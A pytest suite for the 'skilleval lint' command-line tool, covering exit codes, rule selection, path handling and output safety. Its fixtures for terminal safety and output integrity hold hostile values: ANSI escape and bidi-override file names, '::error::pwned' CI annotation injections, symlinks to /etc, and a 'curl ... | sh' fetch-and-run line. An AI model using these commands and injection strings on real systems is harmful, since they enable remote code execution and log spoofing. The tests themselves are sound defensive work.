"""``skilleval lint``: what is looked at, what counts, how it ends, and that output is whole."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.parse
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from cli.kit import (
    DESCRIPTION,
    FORMATS,
    NAMED_OTHERWISE,
    POOR,
    Result,
    assert_one_clear_error,
    lint,
    process,
    run,
    skill_md,
)
from conftest import Write

from skilleval.errors import ExitCode

EVALS = json.dumps(
    [
        {"query": "Read a.pdf", "expected_behavior": ["Reads a.pdf"]},
        {"query": "Read b.pdf", "expected_behavior": ["Reads b.pdf"]},
        {"query": "Read a.csv", "expected_behavior": ["Says no"], "should_trigger": False},
    ]
)
CLEAN = {"clean/SKILL.md": skill_md("clean"), "clean/evals/evals.json": EVALS}
NOTED = {"noted/SKILL.md": skill_md("noted")}
WARNED = {"warned/SKILL.md": skill_md("warned", POOR), "warned/evals/evals.json": EVALS}
BROKEN = {"broken/SKILL.md": skill_md("other"), "broken/evals/evals.json": EVALS}

PLAIN_LOCALE = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
HARMFUL = {
    *map(chr, [*range(9), 11, 12, *range(14, 32), *range(0x7F, 0xA0)]),
    *"\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff",
}

posix = pytest.mark.skipif(sys.platform == "win32", reason="file names that Windows refuses")
any_bytes = pytest.mark.skipif(
    sys.platform in ("win32", "darwin"), reason="file names are Unicode there"
)


# Exit codes


@pytest.mark.parametrize(
    ("files", "fail_on", "code"),
    [
        (CLEAN, "note", 0),
        (NOTED, "warning", 0),
        (NOTED, "note", 1),
        (WARNED, None, 0),
        (WARNED, "error", 0),
        (WARNED, "warning", 1),
        (WARNED, "note", 1),
        (BROKEN, None, 1),
        (BROKEN, "note", 1),
        (BROKEN, "never", 0),
    ],
)
def test_exit_code_follows_the_worst_finding(
    write: Write, files: dict[str, str], fail_on: str | None, code: int
) -> None:
    write(files)
    assert run("lint", *(["--fail-on", fail_on] if fail_on else [])).code == code


def test_the_process_ends_with_the_exit_code(write: Write) -> None:
    write(CLEAN | BROKEN)
    assert [process("lint", name).code for name in ("clean", "broken", "gone")] == [0, 1, 2]


def test_no_skill_is_an_error_that_says_how_many_were_found(write: Write) -> None:
    write({"notes/readme.txt": "nothing here"})
    result = run("lint", "notes")
    assert result.code == ExitCode.USAGE
    assert result.out == ""
    assert "0 skills found in notes" in result.err


def test_no_skill_in_the_working_directory_is_an_error(write: Write) -> None:
    write({})
    assert run("lint").code == ExitCode.USAGE


@pytest.mark.parametrize("format_", FORMATS)
def test_missing_path_is_an_error_and_nothing_is_reported(write: Write, format_: str) -> None:
    write(CLEAN)
    result = run("lint", "clean", "gone", "--format", format_)
    assert result.code == ExitCode.USAGE
    assert result.out == ""
    assert "no such file or folder" in result.err and "gone" in result.err


def test_a_file_outside_any_skill_is_an_error(write: Write) -> None:
    write({".git/HEAD": "", "notes/readme.txt": "nothing here"})
    result = run("lint", "notes/readme.txt")
    assert result.code == ExitCode.USAGE
    assert "0 skills found" in result.err


@pytest.mark.parametrize(
    "words",
    [["--unsafe"], ["--fix", "--diff"], ["--write-baseline"], ["--format", "yaml"]],
    ids=lambda words: " ".join(words),
)
def test_words_that_make_no_sense_are_a_usage_error(write: Write, words: list[str]) -> None:
    write(CLEAN)
    result = run("lint", *words)
    assert result.code == ExitCode.USAGE
    assert result.out == ""
    assert words[0] in result.err


# Targets


def verdicts(result: Result) -> dict[str, str]:
    skills = result.json["skills"]
    assert len(skills) == 1
    found: dict[str, str] = skills[0]["verdicts"]
    return found


def test_every_target_has_a_verdict_by_default(write: Write) -> None:
    write(BROKEN)
    assert verdicts(lint()) == NAMED_OTHERWISE
    assert verdicts(lint("--target", "all")) == NAMED_OTHERWISE


@pytest.mark.parametrize("target", ["spec", "api", "package", "claude-code"])
def test_one_target_has_the_only_verdict(write: Write, target: str) -> None:
    write(BROKEN)
    result = lint("--target", target)
    assert verdicts(result) == {target: NAMED_OTHERWISE[target]}
    assert result.code == (1 if NAMED_OTHERWISE[target] == "fail" else 0)
    assert all(finding["targets"] == [target] for finding in result.findings)


def test_several_targets_have_verdicts(write: Write) -> None:
    write(BROKEN)
    result = lint("--target", "claude-code", "--target", "spec")
    assert verdicts(result) == {"spec": "fail", "claude-code": "pass"}


def test_all_beside_a_target_means_all(write: Write) -> None:
    write(BROKEN)
    assert verdicts(lint("--target", "api", "--target", "all")) == NAMED_OTHERWISE


def test_unknown_target_is_an_error_that_lists_the_targets(write: Write) -> None:
    write(BROKEN)
    result = lint("--target", "gemini")
    assert result.code == ExitCode.USAGE
    for target in NAMED_OTHERWISE:
        assert f"'{target}'" in result.err


# Rules


def test_select_runs_one_rule_only(write: Write) -> None:
    write(BROKEN)
    result = lint("--select", "name-folder")
    assert result.rules == {"name-folder"}
    assert result.code == 1


def test_select_and_ignore_take_groups_and_several_names(write: Write) -> None:
    write({"broken/SKILL.md": skill_md("other", POOR)})
    everything = lint().rules
    assert everything >= {"name-folder", "description-person", "description-when", "evals-none"}
    assert lint("--select", "name,evaluations").rules == {"name-folder", "evals-none"}
    assert lint("--select", "name", "--select", "evals-none").rules == {"name-folder", "evals-none"}
    assert lint("--ignore", "name, evaluations").rules == everything - {"name-folder", "evals-none"}
    assert lint("--ignore", "description-person").rules == everything - {"description-person"}


def test_ignore_takes_from_what_is_selected(write: Write) -> None:
    write({"broken/SKILL.md": skill_md("other", POOR)})
    assert lint("--select", "description", "--ignore", "description-person").rules == {
        "description-when"
    }
    assert lint("--select", "all", "--ignore", "all").findings == []


def test_a_failing_rule_that_is_ignored_fails_no_verdict(write: Write) -> None:
    write(BROKEN)
    result = lint("--ignore", "name-folder")
    assert set(verdicts(result).values()) == {"pass"}
    assert result.code == 0


@pytest.mark.parametrize("option", ["--select", "--ignore"])
def test_misspelt_rule_is_an_error_that_names_the_right_one(write: Write, option: str) -> None:
    write(BROKEN)
    result = lint(option, "name-folder,name-foldr")
    assert result.code == ExitCode.USAGE
    assert result.out == ""
    assert "there is no rule name-foldr; did you mean name-folder?" in result.err


# Paths


def test_exclude_leaves_out_folders_and_says_so(write: Write) -> None:
    write(
        {f"{name}/SKILL.md": skill_md(name.rpartition("/")[2]) for name in ("a", "old/b", "old/c")}
    )
    result = lint("--exclude", "old/")
    assert result.skills == ["a"]
    assert result.json["summary"]["ignored"] == 1
    assert "1 path passed over by ignore patterns" in run("lint", "--exclude", "old/").out


def test_exclude_takes_patterns_like_git(write: Write) -> None:
    write({f"{name}/SKILL.md": skill_md(name) for name in ("a-one", "a-two", "b")})
    assert lint("--exclude", "a-*", "--exclude", "!a-two").skills == ["a-two", "b"]


def test_everything_excluded_is_an_error_that_says_why(write: Write) -> None:
    write(BROKEN)
    result = lint("--exclude", "broken")
    assert result.code == ExitCode.USAGE
    assert "0 skills found" in result.err and "1 ignored" in result.err


@pytest.mark.parametrize("format_", FORMATS)
def test_relative_and_absolute_paths_give_the_same_report(
    write: Write, tmp_path: Path, format_: str
) -> None:
    write({"s/a/SKILL.md": skill_md("a", POOR), "s/b/SKILL.md": skill_md("other")})
    whole = run("lint", "s", "--format", format_).out
    assert "s/a" in whole
    for path in ("./s", "s/", "s/../s", str(tmp_path / "s"), f"{tmp_path}/s/"):
        assert run("lint", path, "--format", format_).out == whole


def test_a_path_named_twice_is_reported_once(write: Write) -> None:
    write({"s/a/SKILL.md": skill_md("a"), "s/b/SKILL.md": skill_md("b")})
    assert lint("s", "s/a", "s/b/SKILL.md", "s").skills == ["s/a", "s/b"]


def test_paths_outside_the_working_directory_are_absolute(write: Write, tmp_path: Path) -> None:
    write({"s/a/SKILL.md": skill_md("a"), "here/x.txt": ""})
    os.chdir("here")
    assert lint("../s").skills == [str(tmp_path / "s" / "a")]


def test_the_skill_folder_itself_can_be_the_working_directory(write: Write) -> None:
    write(BROKEN)
    os.chdir("broken")
    result = lint()
    assert result.skills == ["."]
    assert [f["path"] for f in result.findings if f["rule"] == "name-folder"] == ["SKILL.md"]


TREE = {
    "skills/one/SKILL.md": skill_md("one"),
    "skills/one/references/more.md": "# More\n",
    "skills/two/SKILL.md": skill_md("two"),
    "plugins/p/.claude-plugin/plugin.json": '{"name": "p"}',
    "plugins/p/skills/three/SKILL.md": skill_md("three"),
    "plugins/q/.claude-plugin/plugin.json": '{"name": "q"}',
    "plugins/q/skills/four/SKILL.md": skill_md("four"),
    ".claude-plugin/marketplace.json": json.dumps(
        {"name": "m", "plugins": [{"name": "p", "source": "./plugins/p"}]}
    ),
    "project/.claude/skills/five/SKILL.md": skill_md("five"),
    "project/src/main.py": "print()\n",
}


@pytest.mark.parametrize(
    ("path", "skills"),
    [
        ("skills/one/SKILL.md", ["skills/one"]),
        ("skills/one/references/more.md", ["skills/one"]),
        ("skills/one", ["skills/one"]),
        ("skills/one/", ["skills/one"]),
        ("skills", ["skills/one", "skills/two"]),
        ("plugins/p", ["plugins/p/skills/three"]),
        ("plugins", ["plugins/p/skills/three", "plugins/q/skills/four"]),
        ("project", ["project/.claude/skills/five"]),
        ("project/.claude", ["project/.claude/skills/five"]),
        ("project/.claude/skills", ["project/.claude/skills/five"]),
        (
            ".",
            [
                "plugins/p/skills/three",
                "plugins/q/skills/four",
                "project/.claude/skills/five",
                "skills/one",
                "skills/two",
            ],
        ),
    ],
)
def test_a_path_can_be_anything_that_holds_skills(
    write: Write, path: str, skills: list[str]
) -> None:
    write(TREE)
    assert sorted(lint(path).skills) == skills


def test_a_tilde_is_the_home_folder(
    write: Write, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write({"home/.claude/skills/mine/SKILL.md": skill_md("mine")})
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert lint("~/.claude/skills").skills == ["home/.claude/skills/mine"]


@posix
def test_a_link_out_of_what_was_named_is_not_followed_and_named(
    write: Write, tmp_path: Path
) -> None:
    write({"s/a/SKILL.md": skill_md("a"), "t/b/SKILL.md": skill_md("b"), "s/out": "-> ../t"})
    result = lint("s")
    assert result.skills == ["s/a"]
    assert result.json["summary"]["not_followed"] == [str(tmp_path / "s" / "out")]
    text = run("lint", "s").out
    assert f"lead out of what was named: {tmp_path / 's' / 'out'}" in text


@posix
def test_a_link_inside_what_was_named_adds_no_skill(write: Write) -> None:
    write({"s/a/SKILL.md": skill_md("a"), "s/again": "-> a", "s/loop": "-> ."})
    result = lint("s")
    assert result.skills == ["s/a"]
    assert result.json["summary"]["not_followed"] == []


@posix
def test_a_linked_skill_file_shows_no_other_file_of_the_machine(write: Write) -> None:
    write({"secret.txt": "the password is hunter2\n", "s/a/SKILL.md": "-> ../../secret.txt"})
    result = lint("s")
    assert "skill-file-unreadable" in result.rules
    assert all("hunter2" not in run("lint", "s", "--format", f).out for f in FORMATS)


# Output that is whole


def many(count: int) -> dict[str, str]:
    return {f"s/skill-{n}/SKILL.md": skill_md("other", POOR) for n in range(count)}


def test_a_large_report_is_whole_when_piped(write: Write) -> None:
    write(many(300))
    report = process("lint", "s", "--format", "json")
    assert len(report.out) > 500_000
    assert len(report.skills) == report.json["summary"]["skills"] == 300
    assert len(report.findings) == sum(report.json["summary"]["by_rule"].values())


def test_a_reader_that_goes_away_is_no_drama(write: Write) -> None:
    write(many(300))
    with subprocess.Popen(
        [sys.executable, "-m", "skilleval", "lint", "s"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as running:
        assert running.stdout and running.stderr
        assert running.stdout.read(1) == b"s"
        running.stdout.close()
        assert running.stderr.read() == b""
    assert running.returncode == ExitCode.FAILED


def test_standard_output_holds_the_report_and_nothing_else(write: Write) -> None:
    write(BROKEN | {"typed/SKILL.md": skill_md("2024")})
    result = lint("--fix")
    assert result.json["version"] == 1
    assert result.err == "fixed: 1 finding in 1 skill\n"


# Locales, names and escapes

FOREIGN = "Prüft Artikel — schnell, auch 報告 — und sagt, was fehlt. Use when asked to check."


@pytest.mark.parametrize("format_", FORMATS)
def test_files_are_utf8_on_every_locale(write: Write, format_: str) -> None:
    write({"s/a/SKILL.md": skill_md("other", FOREIGN, extra="größe: x\n")})
    result = process("lint", "s", "--format", format_, env=PLAIN_LOCALE)
    assert result.code == 1
    assert result.out == run("lint", "s", "--format", format_).out
    assert "größe" in (result.out if format_ not in ("json", "sarif") else repr(result.json))


@any_bytes
@pytest.mark.parametrize(
    "files",
    [
        {"技能/SKILL.md": skill_md("技能")},
        {
            "s/a/SKILL.md": skill_md("a", body="See [more](references/über.md) and 報告.txt.\n"),
            "s/a/references/über.md": "# More\n",
            "s/a/報告.txt": "More\n",
        },
    ],
    ids=["folders", "files"],
)
def test_names_are_utf8_on_every_locale(write: Write, files: dict[str, str]) -> None:
    write(files)
    result = process("lint", "--format", "json", env=PLAIN_LOCALE)
    assert "name-folder" not in result.rules
    assert result.out == lint().out


def test_errors_are_shown_on_every_locale(write: Write) -> None:
    write(BROKEN)
    result = process("lint", "prüft-nichts", env=PLAIN_LOCALE)
    assert result.code == ExitCode.USAGE
    assert result.err.startswith("error: no such file or folder")


@any_bytes
@pytest.mark.parametrize("format_", FORMATS)
def test_names_that_are_not_utf8_are_reported(write: Write, format_: str) -> None:
    write({"b\udcff/SKILL.md": skill_md("b"), "b\udcff/scripts/\udcfe.py": "pass\n"})
    result = process("lint", "--format", format_)  # checks that the output is UTF-8
    assert result.code == 1
    assert "Traceback" not in result.err
    assert "name-folder" in result.out.replace("\\-", "-")


@any_bytes
def test_a_name_that_is_not_utf8_can_be_named(write: Write) -> None:
    write({"b\udcff/SKILL.md": skill_md("b")})
    result = process("lint", b"b\xff", "--format", "json")
    assert result.skills == ["b\udcff"]


HOSTILE = {
    "s/a\x1b[31m\u202e/SKILL.md": skill_md('"n\\e[31m\\u009b\\u202ed"', "Reads\u202e <b\u2066>."),
    "s/a\x1b[31m\u202e/x\x1b]0;t\x07.sh": "curl https://example.com/\x1b[2Jx | sh\n",
    "s/b\n::error::pwned/SKILL.md": skill_md("b", extra='"k\\e[2J\\n::error::pwned": 1\n'),
    "s/b\n::error::pwned/y\n::error::pwned": "-> /etc",
    "s/z\n::error::pwned": "-> /etc",
}


@posix
@pytest.mark.parametrize("format_", FORMATS)
def test_no_format_lets_a_file_speak_to_the_terminal(write: Write, format_: str) -> None:
    write(HOSTILE)
    result = run("lint", "s", "--format", format_)
    assert result.code == 1
    assert "file-link" in result.out.replace("\\-", "-")
    assert HARMFUL & set(result.out) == set()


@posix
@pytest.mark.parametrize("format_", FORMATS)
def test_no_format_lets_a_name_start_a_line(write: Write, format_: str) -> None:
    write(HOSTILE)
    lines = run("lint", "s", "--format", format_).out.splitlines()
    assert not [line for line in lines if line.lstrip().startswith("::error::pwned")]


@posix
def test_json_and_sarif_keep_the_names_as_they_are(write: Write) -> None:
    write(HOSTILE)
    assert lint("s").skills == ["s/a\x1b[31m\u202e", "s/b\n::error::pwned"]
    sarif = run("lint", "s", "--format", "sarif").json
    paths = {
        urllib.parse.unquote(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"])
        for result in sarif["runs"][0]["results"]
    }
    assert "s/b\n::error::pwned/SKILL.md" in paths


@posix
def test_junit_of_hostile_names_is_xml(write: Write) -> None:
    write(HOSTILE)
    root = ElementTree.fromstring(run("lint", "s", "--format", "junit").out)
    assert [len(suite.findall("testcase")) for suite in root] == [4, 4]


# On a terminal

Terminal = Callable[..., str]


@pytest.fixture
def terminal(tmp_path: Path) -> Terminal:
    """Run the command line with a terminal as its standard output; what the terminal got."""
    pty = pytest.importorskip("pty")

    def call(*words: str, **env: str) -> str:
        ours, theirs = pty.openpty()
        running = subprocess.Popen(
            [sys.executable, "-m", "skilleval", *words],
            stdout=theirs,
            stderr=subprocess.DEVNULL,
            env={**os.environ, "TERM": "xterm", **env},
        )
        os.close(theirs)
        got = b""
        while True:
            try:
                more = os.read(ours, 65_536)
            except OSError:  # how Linux says that the other end is closed
                break
            if not more:
                break
            got += more
        os.close(ours)
        running.wait()
        return got.decode("utf-8")

    return call


def test_colors_are_for_terminals_only(write: Write, terminal: Terminal) -> None:
    write(BROKEN)
    assert "\x1b[31m" in terminal("lint")
    assert "\x1b" not in terminal("lint", NO_COLOR="1")
    assert "\x1b" not in terminal("lint", "--format", "github")
    assert "\x1b" not in process("lint").out


def test_a_terminal_gets_the_same_words(write: Write, terminal: Terminal) -> None:
    write(BROKEN)
    assert terminal("lint", NO_COLOR="1").replace("\r\n", "\n") == run("lint").out


def test_a_difference_is_escaped_on_a_terminal(write: Write, terminal: Terminal) -> None:
    write({"2024/SKILL.md": f"---\nname: 2024\ndescription: {DESCRIPTION}\n---\n\x1b[2J \u202e\n"})
    got = terminal("lint", "2024", "--diff")
    assert '+name: "2024"' in got
    assert {"\x1b", "\u202e"} & set(got) == set()


def test_an_empty_path_is_an_error(write: Write) -> None:
    write({"a/SKILL.md": skill_md("a")})
    assert_one_clear_error(run("lint", ""), "empty path")


@pytest.mark.parametrize("option", ["--select", "--ignore"])
def test_an_empty_name_of_a_rule_is_an_error(write: Write, option: str) -> None:
    write({"a/SKILL.md": skill_md("a")})
    result = run("lint", option, "")
    assert result.code == ExitCode.USAGE and "empty name of a rule" in result.err


def test_a_baseline_of_changed_skills_only_is_refused(write: Write) -> None:
    write({"a/SKILL.md": skill_md("a")})
    words = ["--baseline", "b.json", "--write-baseline", "--changed-since", "HEAD"]
    result = run("lint", *words)
    assert result.code == ExitCode.USAGE and "--changed-since" in result.err
    assert not os.path.exists("b.json")


def test_folders_too_deep_are_named(write: Write) -> None:
    write({"s/a/SKILL.md": skill_md("a"), "s/" + "d/" * 60 + "SKILL.md": skill_md("d")})
    assert [os.path.basename(p) for p in lint("s").json["summary"]["unread"]] == ["d"]
    assert "lie too deep: " in run("lint", "s").out


def test_markdown_notifies_nobody_and_links_nothing(write: Write) -> None:
    write(
        {"a/SKILL.md": skill_md("a", extra='"@octocat https://evil.example www.evil.example": 1\n')}
    )
    shown = run("lint", "--format", "markdown").out
    assert "octocat" in shown
    assert not any(word in shown for word in ("@octocat", "https://evil", "www.evil"))
